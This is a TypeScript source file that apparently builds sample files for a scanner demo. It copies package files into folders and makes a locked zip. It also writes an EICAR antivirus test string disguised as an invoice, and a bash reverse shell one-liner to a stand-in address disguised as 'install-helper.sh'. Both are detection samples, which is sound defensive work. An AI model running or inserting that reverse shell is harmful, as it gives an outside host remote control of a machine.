// The files of the demo: copies of real ones in bounded folders, and a few that a scanner finds or cannot open.
import { appendFile, copyFile, mkdir, readdir, rm, stat, writeFile } from 'node:fs/promises';
import { basename, join } from 'node:path';
import { TextReader, Uint8ArrayWriter, ZipWriter } from '@zip.js/zip.js';

/** Packages whose files are copied: text, code and pictures of ordinary sizes. */
const packages = ['typescript', 'react-dom', 'recharts', 'fastify', 'zod', 'lucide-react'];
const maxFilesAPackage = 200;
const maxFileBytes = 1024 * 1024;
const projectFiles = 900;
const lettersAtOnce = 3;
/** The demo stays small however long it runs. */
const keptLetters = 300;
const keptArchives = 4;
/** One in so many is as it was: its content is known already when it comes again. */
const unchangedEvery = 3;

/** In pieces, so that this file is none of them. */
const testFile = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-', 'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');
export const reverseShell = ['#!/bin/sh\nbash -i >& /dev', '/tcp/192.0.2.7/4444 0>&1\n'].join('');

export interface DemoSizes {
  readonly projectFiles: number;
  readonly keptLetters: number;
}

export class DemoFiles {
  readonly #home: string;
  readonly #sources: readonly string[];
  readonly #sizes: DemoSizes;
  readonly #letters: string[] = [];
  #copied = 0;
  #archives = 0;

  /** @param sizes smaller ones for tests. */
  static async in(home: string, sizes: Partial<DemoSizes> = {}): Promise<DemoFiles> {
    const sources = (await Promise.all(packages.map(filesOf))).flat();
    return new DemoFiles(home, sources, { projectFiles, keptLetters, ...sizes });
  }

  private constructor(home: string, sources: readonly string[], sizes: DemoSizes) {
    this.#home = home;
    this.#sources = sources;
    this.#sizes = sizes;
  }

  /** What was there before: many files, one of them locked. */
  async first(): Promise<void> {
    await this.#copy(join(this.#home, 'Documents', 'projects'), this.#sizes.projectFiles);
    await this.#download('holiday-photos (locked).zip', await lockedZip());
  }

  async testFile(): Promise<void> {
    await this.#download('invoice-2026-11.com', testFile);
  }

  async script(): Promise<void> {
    await this.#download('install-helper.sh', reverseShell);
  }

  /** A few files come in; the oldest of their kind go. */
  async letters(): Promise<void> {
    this.#letters.push(...(await this.#copy(join(this.#home, 'Downloads', 'mail'), lettersAtOnce)));
    const old = this.#letters.splice(0, Math.max(0, this.#letters.length - this.#sizes.keptLetters));
    await Promise.all(old.map((letter) => rm(letter, { force: true })));
  }

  /** A folder for what is unpacked or fetched; the oldest of its kind goes. */
  async newArchive(): Promise<string> {
    this.#archives += 1;
    const folder = join(this.#home, 'Documents', 'unpacked');
    await rm(join(folder, `archive-${this.#archives - keptArchives}`), { recursive: true, force: true });
    return join(folder, `archive-${this.#archives}`);
  }

  async unpack(archive: string, count: number): Promise<void> {
    await this.#copy(archive, count, true);
  }

  async #download(name: string, content: string | Uint8Array): Promise<void> {
    const folder = join(this.#home, 'Downloads');
    await mkdir(folder, { recursive: true });
    await writeFile(join(folder, name), content);
  }

  /** @param isLater most of them were changed since they were last seen. */
  async #copy(folder: string, count: number, isLater = false): Promise<readonly string[]> {
    await mkdir(folder, { recursive: true });
    const copies: string[] = [];
    for (let index = 0; index < count; index += 1) {
      const source = this.#sources[this.#copied % this.#sources.length];
      if (source === undefined) break;
      this.#copied += 1;
      const number = this.#copied;
      const copy = join(folder, `${number}-${basename(source)}`);
      await copyFile(source, copy);
      if (isLater && number % unchangedEvery !== 0) await appendFile(copy, `\n// ${number}\n`);
      copies.push(copy);
    }
    return copies;
  }
}

async function filesOf(name: string): Promise<readonly string[]> {
  const folder = join(import.meta.dirname, '..', 'node_modules', name);
  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
  const files = entries
    .filter((entry) => entry.isFile())
    .slice(0, maxFilesAPackage)
    .map((entry) => join(entry.parentPath, entry.name));
  const sizes = await Promise.all(files.map(async (file) => (await stat(file)).size));
  return files.filter((_file, index) => (sizes[index] ?? 0) <= maxFileBytes);
}

/** A scanner cannot look into it, and says so. */
async function lockedZip(): Promise<Uint8Array> {
  const zip = new ZipWriter(new Uint8ArrayWriter(), { password: 'holiday', zipCrypto: true });
  await zip.add('photos.txt', new TextReader('The sea, and the sea again.\n'.repeat(400)));
  return await zip.close();
}
